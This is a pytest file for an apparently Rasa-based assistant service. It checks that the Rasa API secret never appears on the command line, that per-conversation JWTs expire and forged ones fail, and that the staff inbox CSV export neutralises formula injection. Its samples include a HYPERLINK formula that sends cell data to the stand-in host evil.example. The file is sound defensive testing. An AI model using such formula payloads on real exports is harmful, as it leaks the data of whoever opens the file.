"""Issue 10 (medium and low): the Rasa API secret, the staff inbox, Teams, Slack and the web service.

Fast tests call the pieces directly (TestClient, the connectors' checks); the ones marked slow run
against the real stack (fixtures in conftest.py).
"""

from __future__ import annotations

import os
import time
from pathlib import Path

import httpx
import pytest

ROOT = Path(__file__).resolve().parent.parent


# -- 1. Rasa's API secret: never on argv or in a URL ----------------------------------------------
def stack_settings(tmp_path, **overrides):
    from service.stack import StackSettings

    return StackSettings(log_dir=tmp_path / "log", **overrides)


def test_rasa_is_started_without_its_api_secret_on_the_command_line(tmp_path):
    from service.stack import Stack

    stack = Stack(stack_settings(tmp_path, rasa_api_token="configured-rasa-api-secret-0123"))
    rasa = next(p for p in stack.processes if p.name == "rasa")
    assert "configured-rasa-api-secret-0123" not in " ".join(rasa.command)
    assert not {"--auth-token", "-t", "--jwt-secret"} & set(rasa.command)
    assert rasa.command[1:4] == ["-m", "bot.launch", "run"] and "--enable-api" in rasa.command
    assert rasa.env["ASSISTANT_RASA_API_TOKEN"] == "configured-rasa-api-secret-0123"


def test_the_launcher_takes_the_secret_from_the_environment_only():
    from bot.launch import rasa_argv

    argv = rasa_argv(["run", "--enable-api"], {"ASSISTANT_RASA_API_TOKEN": "s" * 32})
    assert argv == ["rasa", "run", "--enable-api", "--jwt-secret", "s" * 32, "--jwt-method", "HS256"]
    assert rasa_argv(["run"], {}) == ["rasa", "run"]  # no API, no secret needed
    for bad in (["run", "--auth-token", "x"], ["run", "--jwt-secret=x"], ["run", "-t", "x"]):
        with pytest.raises(SystemExit):
            rasa_argv(bad, {"ASSISTANT_RASA_API_TOKEN": "s" * 32})
    with pytest.raises(SystemExit):  # the API never runs open
        rasa_argv(["run", "--enable-api"], {})


def test_the_inbox_jwt_names_one_conversation_and_expires():
    import jwt

    from service.rasa_api import rasa_api_jwt

    token = rasa_api_jwt("k" * 32, "web:abc", ttl=60)
    claims = jwt.decode(token, "k" * 32, algorithms=["HS256"])
    assert claims["user"] == {"username": "web:abc", "role": "user"}
    assert time.time() < claims["exp"] <= time.time() + 61
    with pytest.raises(jwt.ExpiredSignatureError):
        jwt.decode(rasa_api_jwt("k" * 32, "web:abc", now=time.time() - 3600), "k" * 32, algorithms=["HS256"])


@pytest.mark.slow
def test_rasa_api_secret_is_not_visible_and_the_inbox_credential_cannot_change_the_model(stack):
    secret = stack.settings.rasa_api_token.get_secret_value()
    rasa = next(p for p in stack.processes if p.name == "rasa")
    cmdline = Path(f"/proc/{rasa.popen.pid}/cmdline").read_bytes().decode(errors="replace")
    assert "bot.launch" in cmdline and secret not in cmdline  # what `ps` shows
    base = f"http://{stack.settings.rasa_host}:{stack.settings.rasa_port}"
    from conftest import rasa_api_headers

    # The old ?token= query no longer opens anything; a JWT for one conversation opens that one only.
    assert httpx.get(f"{base}/conversations/rest:someone/tracker", params={"token": secret},
                     timeout=30).status_code == 401
    assert httpx.get(f"{base}/conversations/rest:someone/tracker", headers=rasa_api_headers(stack, "rest:someone"),
                     timeout=30).status_code == 200
    assert httpx.get(f"{base}/conversations/rest:victim/tracker", headers=rasa_api_headers(stack, "rest:someone"),
                     timeout=30).status_code == 403
    assert httpx.put(f"{base}/model", json={"model_file": "/tmp/x.tar.gz"},
                     headers=rasa_api_headers(stack, "rest:someone"), timeout=30).status_code in (401, 403)
    forged = {"Authorization": "Bearer " + __import__("service.rasa_api", fromlist=["x"]).rasa_api_jwt(
        "not-the-secret-0123456789", "rest:someone", "admin")}
    assert httpx.put(f"{base}/model", json={"model_file": "/tmp/x.tar.gz"}, headers=forged,
                     timeout=30).status_code == 401


# -- the staff inbox (TestClient over a tiny index) -------------------------------------------------
STAFF = "staff-token-0123456789"


@pytest.fixture
def inbox_app(tiny_index, fake_embedder, tmp_path):
    from fastapi.testclient import TestClient

    from index.search import SearchEngine
    from service.app import create_app
    from service.settings import ServiceSettings

    def make(**overrides):
        settings = ServiceSettings(**{**tiny_index.model_dump(), "inbox_db": tmp_path / "inbox.sqlite3",
                                      "inbox_token": STAFF, "rasa_url": "http://127.0.0.1:9", **overrides})
        app = create_app(settings, engine_factory=lambda: SearchEngine.load(settings, fake_embedder))
        return TestClient(app), settings

    return make


def bearer(token: str = STAFF) -> dict:
    return {"Authorization": f"Bearer {token}"}


# -- 2. CSV formula injection ----------------------------------------------------------------------
def test_gaps_csv_neutralises_formulas(inbox_app):
    import csv
    import io

    from assistant.inbox import Inbox

    client, settings = inbox_app()
    inbox = Inbox(settings.inbox_db)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klicka")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    for q in hostile:
        inbox.add_feedback("web:x", "bad", q, [])
    inbox.add_unanswered("web:x", "Vad gäller för = tecken?", "sv", None, None)
    with client:
        r = client.get("/api/inbox/gaps.csv", headers=bearer())
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    questions = {row[1] for row in rows[1:]}
    assert questions >= {"'" + q for q in hostile}
    assert "Vad gäller för = tecken?" in questions  # ordinary text stays as it was
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    from service.staff import csv_cell

    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\rx") == "'\rx" and csv_cell(3) == 3
